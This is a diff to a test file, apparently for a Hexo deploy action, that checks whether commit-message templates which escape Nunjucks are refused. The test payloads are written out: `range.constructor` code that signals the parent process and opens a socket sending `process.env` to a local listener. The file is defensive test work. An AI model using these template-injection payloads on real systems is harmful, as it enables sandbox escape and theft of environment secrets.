@@ -2,7 +2,8 @@
 // real Nunjucks and Luxon) in a sandboxed process of its own: the same commit message as a real `hexo deploy`; a
 // template that escapes Nunjucks gets nothing of ours; one that hangs or does not parse fails the step, unpushed.
 import { execFileSync } from 'node:child_process';
-import { existsSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync, readlinkSync } from 'node:fs';
+import * as net from 'node:net';
 import * as fs from 'node:fs/promises';
 import * as path from 'node:path';
 import { VALID_TOKEN } from '../support/git-server.mjs';
@@ -67,7 +68,7 @@ test('a rich message gets the commit message a real hexo deploy gives it', async
   expect(stored).toMatch(/[^\n]\n$/);
 });
 
-test('a message that escapes Nunjucks reads, writes and starts nothing, and the deploy holds no secret', async () => {
+test('a message that escapes Nunjucks is refused before it reads, writes or starts anything; nothing is pushed', async () => {
   const repo = e2e.repoName('escape');
   await e2e.server.createRepo(repo);
   // The push takes a second on the server: time for a process left running to read our git's environment.
@@ -101,24 +102,93 @@ test('a message that escapes Nunjucks reads, writes and starts nothing, and the 
   ].join('\n');
   await setDeploy(work, repo, message);
 
+  const tip = await e2e.server.commit(repo, 'gh-pages', { 'index.html': 'live\n' });
+
   const result = await deploy(work, { token: VALID_TOKEN });
 
-  expect(result.errors).toEqual([]);
-  const stored = storedMessage(repo, 'gh-pages');
-  // The renderer's environment is the time zone and locale, when set: none of ours. (Node itself copies
-  // NODE_V8_COVERAGE, the folder for coverage data, into every child while the suite measures coverage.)
-  const env = JSON.parse((/^env: (.*)$/m.exec(stored)?.[1] ?? '').replaceAll('&quot;', '"')) as object;
-  expect(
-    Object.keys(env).filter((name) => !/^(TZ|LANG|LANGUAGE|LC_\w+|NODE_ICU_DATA|TZDIR|NODE_V8_COVERAGE)$/.test(name)),
-  ).toEqual([]);
-  for (const line of ['parent', 'home', 'workspace', 'spawn']) {
-    expect(stored).toMatch(new RegExp(`^${line}: refused: Access to this API has been restricted`, 'm'));
-  }
+  // The renderer refuses the code before it runs: the step fails, naming the setting, and nothing is pushed.
+  expect(result.exitCode).toBe(1);
+  expect(result.errors.join('\n')).toContain('The message in _config.yml\'s deploy ("Site updated") does not render');
+  expect(result.errors.join('\n')).toContain('a message template may not make code from a string');
+  expect((await e2e.server.log(repo, 'gh-pages'))[0]?.sha).toBe(tip);
   await new Promise((resolve) => setTimeout(resolve, 500));
   expect([existsSync(loot), ...planted.map((file) => existsSync(file))]).toEqual([false, false, false]);
   await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN), { server: e2e.server, repo });
-  for (const secret of tokenForms(VALID_TOKEN)) expect(stored).not.toContain(secret);
 });
+
+test('a message whose code signals the action or opens a connection fails the step at once, reaching nothing', async () => {
+  const repo = e2e.repoName('signal-message');
+  await e2e.server.createRepo(repo);
+  const tip = await e2e.server.commit(repo, 'gh-pages', { 'index.html': 'live\n' });
+  const work = await e2e.job();
+  const received: string[] = [];
+  const listener = net.createServer((socket) => {
+    received.push('a connection');
+    socket.on('data', (data: Buffer) => received.push(data.toString('latin1')));
+  });
+  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+  const { port } = listener.address() as net.AddressInfo;
+  const code = (body: string): string => `{{ range.constructor(${JSON.stringify(body)})() }}`;
+  const connect = `.connect(${port}, '127.0.0.1').end(JSON.stringify(process.env))`;
+  await setDeploy(
+    work,
+    repo,
+    [
+      'Site updated',
+      code("process.kill(process.ppid, 'SIGSTOP'); return 'stopped'"),
+      code("process.kill(process.ppid, 'SIGUSR1'); return 'signalled'"),
+      code(`process.getBuiltinModule('net')${connect}; return 'sent'`),
+      code(`import('node:net').then((net) => net${connect}); return 'importing'`),
+      code(`new (process.stdout.constructor)()${connect}; return 'sent by the class of stdout'`),
+    ].join('\n'),
+  );
+  // A step the template stopped would hang until the job's timeout: this lets it go on, and says so.
+  const stopped = watchStopped(work.workspace);
+  const started = Date.now();
+
+  const result = await deploy(work, { token: VALID_TOKEN });
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  stopped.end();
+  await new Promise<void>((resolve) =>
+    listener.close(() => {
+      resolve();
+    }),
+  );
+
+  expect(stopped.seen).toEqual([]);
+  expect(received).toEqual([]);
+  expect(result.exitCode).toBe(1);
+  expect(result.errors.join('\n')).toContain('a message template may not make code from a string');
+  expect(result.log).not.toContain('Debugger listening');
+  expect((await e2e.server.log(repo, 'gh-pages'))[0]?.sha).toBe(tip);
+  expect(Date.now() - started).toBeLessThan(30_000);
+});
+
+/** Watches for a process of ours working in `folder` that something stopped (SIGSTOP), and lets it go on. */
+function watchStopped(folder: string): { seen: number[]; end(): void } {
+  const seen: number[] = [];
+  const timer = setInterval(() => {
+    for (const name of readdirSync('/proc')) {
+      if (!/^\d+$/.test(name)) continue;
+      try {
+        if (readlinkSync(`/proc/${name}/cwd`) !== folder) continue;
+        const stat = readFileSync(`/proc/${name}/stat`, 'utf8');
+        if (stat.slice(stat.lastIndexOf(')') + 2).startsWith('T')) {
+          seen.push(Number(name));
+          process.kill(Number(name), 'SIGCONT');
+        }
+      } catch {
+        // ended, or not ours to read
+      }
+    }
+  }, 100);
+  return {
+    seen,
+    end: () => {
+      clearInterval(timer);
+    },
+  };
+}
 
 test.each([
   [
